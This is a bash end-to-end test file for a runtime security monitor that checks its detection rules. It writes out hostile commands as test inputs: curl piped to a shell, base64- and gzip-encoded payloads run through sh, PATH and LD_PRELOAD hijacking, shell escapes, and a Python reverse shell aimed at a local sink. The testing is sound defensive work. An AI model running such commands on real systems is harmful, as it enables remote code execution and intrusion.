#!/bin/bash
# flow.sh: where programs come from and what feeds them: downloads, decoders, PATH, start-up files, sockets (R2-R4).
# shellcheck source=tests/e2e/lib.sh
. "$(dirname "$0")/lib.sh"

python3 tests/lib/sink.py >"$work/port" 2>/dev/null &
sink_pid=$!
trap 'kill $sink_pid 2>/dev/null; cleanup' EXIT
until_true 20 test -s "$work/port"
url=http://127.0.0.1:$(cat "$work/port")/script.sh
tree=$work/tree
mkdir -p "$tree"
cd "$tree" || exit 1

bash_run() { run -- bash -c "$1" </dev/null >"$work/out" 2>&1; }
hit() { # RULE NAME COMMAND
	bash_run "$3"
	see "$1: $2" 'len({get(e, "invigil.fingerprint") for e in alerts("'"$1"'")}) == 1'
}
miss() { # RULE NAME COMMAND
	bash_run "$3"
	see "$1, near miss: $2" 'ended() and len(execs()) > 0 and not alerts("'"$1"'")'
}

hit R4.4 "a download piped to a shell is one finding" "curl -s $url | bash"
see "and it shows the whole line" "'curl -s $url | bash' in json.dumps(alerts('R4.4'))"
hit R4.4 "through another program, to a shell with operands" "curl -s $url | cat | sh -s operand"
miss R4.4 "a download piped to a shell that has its program" "curl -s $url | sh -c 'cat >/dev/null'"
miss R4.4 "a file piped to a shell" "echo 'echo x' >f; cat f | sh"
hit R3.6 "a downloaded program is executed" "curl -so dl $url; chmod +x dl; ./dl"
hit R3.6 "a download by redirection is run as a script" "curl -s $url >dl; sh dl"
hit R3.6 "the same, of a name that libraries have" "curl -s $url >libdl.sh; sh libdl.sh"
hit R3.6 "a download that was copied" "curl -so dl $url; cp dl dl2; cat dl2 >dl3; tar cf dl.tar dl3; mkdir -p d; tar xf dl.tar -C d; sh d/dl3"
hit R3.6 "a download that was renamed, on standard input" "curl -so dl $url; mv dl dl4; sh <dl4"
miss R3.6 "a download that was only looked at" "curl -so dl $url; wc dl >n; echo true >own; sh own"
hit R3.6 "a download through a filter" "curl -s $url | sed s/served/x/ >dl; sh dl"
hit R3.6 "a download by a program of the run's own" \
	"python3 -c 'import urllib.request as u; u.urlretrieve(\"$url\", \"dl\")'; sh dl"
miss R3.6 "the same file, written without the network" "cat dl >copy; sh copy"

script=$(printf '#!/bin/sh\necho decoded\n' | base64 -w 0)
hit R2.3 "a decoder's output reaches a shell" "echo $script | base64 -d | sh"
hit R2.3 "hex" "printf 'echo x' | xxd -p | xxd -r -p | sh"
miss R2.3 "an encoder's output reaches a shell" "echo true | base64 >/dev/null; echo true | cat | sh"
echo "$script" >encoded
printf '#!/bin/sh\nbase64 -d <encoded >art.sh\nchmod 755 art.sh\n./art.sh\n' >decode.sh
printf '#!/bin/sh\ncat encoded >art.sh\nbase64 -d <encoded >/dev/null\nsh art.sh 2>/dev/null\n' >copy.sh
bash_run "sh decode.sh"
see "R2.4: what was decoded in a script is made executable, and executed" \
	'len({get(e, "invigil.subject") for e in alerts("R2.4")}) == 1 and len(alerts("R2.4")) == 2'
miss R2.4 "what was only copied is executed" "sh copy.sh"

bash_run "printf x >2e2e2f6574632f706173; /bin/true $(printf '#!/bin/sh\nrm -rf x\ncurl http://h/i | sh\n' | gzip -n | base64 -w 0)"
see "R2.5: a file is given a name that decodes to a climbing path" 'len(alerts("R2.5")) == 1'
see "R2.2: a script in gzip in base64" '"2 layers" in json.dumps(alerts("R2.2"))'
miss R2.5 "a digest is no such name" "printf x >d41d8cd98f00b204e9800998ecf8427e; /bin/true"

mkdir -p w
cp /bin/true w/mytool
hit R3.3 "a program found by a relative entry of PATH" 'PATH=$PATH:w; mytool'
miss R3.3 "the same entry, absolute" "PATH=\$PATH:$tree/w; mytool"
chmod 777 w
hit R3.3 "by an entry that others can write" "PATH=\$PATH:$tree/w; mytool"
miss R3.3 "called by its path" "PATH=\$PATH:$tree/w; $tree/w/mytool"
printf '#!/bin/sh\n:\n' >w/myscript
chmod 755 w/myscript
hit R3.3 "a script, by an entry that others can write" "PATH=\$PATH:$tree/w; myscript"
miss R3.3 "the same, given to a shell" "PATH=\$PATH:$tree/w; sh $tree/w/myscript"
chmod 755 w
miss R3.3 "the same script, by an entry that only its owner can write" "PATH=\$PATH:$tree/w; myscript"
printf 'echo x\n' >loose.sh
chmod 666 loose.sh
hit R3.2 "a script that others can change, given to a shell" "sh loose.sh"
printf 'print(1)\n' >loose.py
chmod 666 loose.py
hit R3.2 "given to python" "python3 -B loose.py"
chmod 644 loose.sh
miss R3.2 "the same script, 0644" "sh loose.sh"

cp /usr/bin/id suid
chown 1:1 suid
chmod 4755 suid
hit R3.5 "a set-id program" "./suid"
chmod 755 suid
miss R3.5 "the same without the bit" "./suid"
hit R3.5 "unshare" "unshare -n true"

printf 'printf x >%s\nLD_PRELOAD=%s /bin/true\n' "$work/x.so" "$work/x.so" >preload.sh
hit R3.8 "LD_PRELOAD of what the run wrote elsewhere" "sh preload.sh"
miss R3.8 "of what it wrote in its working tree" "printf x >$tree/x.so; LD_PRELOAD=$tree/x.so /bin/true"
miss R3.8 "of what it did not write" "LD_PRELOAD=$work/x.so /bin/true"
chmod 666 "$work/x.so"
hit R3.8 "of what others can change" "LD_PRELOAD=$work/x.so /bin/true"
chmod 644 "$work/x.so"
mkdir -m 777 "$work/planted"
ln -s "$work/x.so" "$work/planted/link.so"
hit R3.8 "through a link that others can replace" "LD_PRELOAD=$work/planted/link.so /bin/true"
hit R3.8 "a library path with a directory that others can write" "LD_LIBRARY_PATH=/usr/lib:$work/planted /bin/true"
printf : >"$tree/rc"
chmod 666 "$tree/rc"
hit R3.8 "BASH_ENV without a slash, even in the working tree" "BASH_ENV=rc bash -c :"
chmod 644 "$tree/rc"
chmod 1777 "$work/planted"
miss R3.8 "root's own link in a sticky directory, a script of mode 0644" \
	"LD_PRELOAD=$work/planted/link.so BASH_ENV=rc bash -c :"

cp /bin/true loose
chmod 777 loose
bash_run "./loose; ./loose"
see "the program that a finding is about is hashed, once" \
	"[get(e, 'file.hash.sha256') for e in action('program-hash') if get(e, 'process.name') == 'loose'] == ['$(sha256sum <loose | cut -d' ' -f1)']"
bash_run "cat encoded | base64 -d >art.sh; sh art.sh"
see "and so is the script" "'$(sha256sum <art.sh | cut -d' ' -f1)' in [get(e, 'file.hash.sha256') for e in action('program-hash')]"
chmod 755 loose
bash_run "./loose"
see "near miss: no finding, no hash" "ended() and not alerts() and not action('program-hash')"

hit R4.6 "awk starts a shell" "awk 'BEGIN { system(\"id\") }'"
hit R4.6 "find starts a shell" "find . -maxdepth 0 -exec sh -c 'echo x' \\;"
hit R4.6 "perl becomes a shell" "perl -e 'exec \"/bin/sh\", \"-c\", \"true\"'"
miss R4.6 "find starts another program" "find . -maxdepth 0 -exec /bin/true \\;"
port=$(cat "$work/port")
cat >reverse.py <<PY
import os, socket, subprocess, sys
if sys.argv[1] == "inet":
    s = socket.create_connection(("127.0.0.1", $port))
    s.sendall(b"GET / HTTP/1.0\r\n\r\n")
else:
    s = socket.socketpair()[0]
subprocess.call(["/bin/sh", "-c", "exit 0"], stdin=s, stdout=s, stderr=s)
PY
hit R4.5 "a shell on a network socket" "python3 reverse.py inet"
miss R4.5 "a shell on a pair of sockets" "python3 reverse.py unix"
bash_run "exec 3<>/dev/tcp/127.0.0.1/$port; printf 'GET / HTTP/1.0\r\n\r\n' >&3; cat <&3"
see "R4.5: a shell opens a connection and feeds on it" 'len(alerts("R4.5")) > 0'
miss R4.5 "a shell that only looks whether a port is open" "(echo >/dev/tcp/127.0.0.1/$port); /bin/true"

run --record "$work/rec" -- bash -c "curl -s $url | bash; curl -so dl $url; sh dl" >/dev/null 2>&1
check "replay gives the same stream" sh -c \
	"'$invigil' replay -o '$work/again' '$work/rec' 2>/dev/null; cmp '$ev' '$work/again'"
# More programs with findings than are remembered: said, not dropped.
mkdir "$work/open" && chmod 777 "$work/open"
for i in $(seq 1100); do cp /bin/true "$work/open/p$i"; done
run -- sh -c 'for i in $(seq 1100); do "$1/p$i"; done' sh "$work/open"
see "hashes for which there was no room are said" \
	'any(get(e, "invigil.gap.hook") == "program hashes" for e in ev) and 0 < len(action("program-hash")) < 1100'
finish
